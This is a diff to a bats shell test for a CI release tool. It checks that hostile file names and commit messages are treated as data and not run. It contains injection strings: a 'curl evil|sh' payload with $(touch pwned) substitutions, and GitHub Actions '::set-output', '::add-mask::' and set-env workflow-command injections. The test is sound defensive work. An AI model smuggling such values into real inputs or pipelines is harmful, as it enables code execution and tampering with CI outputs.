@@ -9,10 +9,13 @@ setup() { new_ci_team; }
 
 @test "a stranger's names and words are data: nothing runs, nothing is a command, in the log, the outputs and the summary" {
     hostile='";curl${IFS}evil|sh;$(touch${IFS}pwned)`touch${IFS}pwned2`'
-    mkdir -p 'HotPath/::set-output name=published::true' 'HotPath/$(touch pwned3)'
-    echo x >'HotPath/::set-output name=published::true/f'
+    # A colon cannot be in a name of a patch; what is left out is told as well.
+    mkdir -p '::set-output name=published::true' 'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue' 'HotPath/$(touch pwned3)'
+    echo x >'::set-output name=published::true/f'
+    echo x >'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue/f'
     echo x >'HotPath/$(touch pwned3)/##[set-env name=PATH]x'
-    echo x >'HotPath/::add-mask::e'
+    echo x >'::add-mask::e'
+    echo x >'HotPath/%3A%3Aadd-mask%3A%3Ae'
     echo x >'HotPath/| b `c` <img src=x> [l](u).txt'
     git add -A
     git commit -qm '::set-output name=published::true
@@ -26,6 +29,7 @@ Hotfix-Notes: $(touch pwned4) ::error::boo'
     echo "$output"
     [ "$status" = 0 ]
     says "would be released: 4 files" "$output"
+    says "2 changed files are not included: ::add-mask::e, ::set-output name=published::true/f" "$output"
     [ "$(output_of published)" = false ]
     [ "$(wc -l <"$BATS_TEST_TMPDIR/out/output")" = 6 ]
     [[ $(summary) != *"<img"* && $(summary) != *'[l](u)'* && $(summary) != *'`c`'* ]]
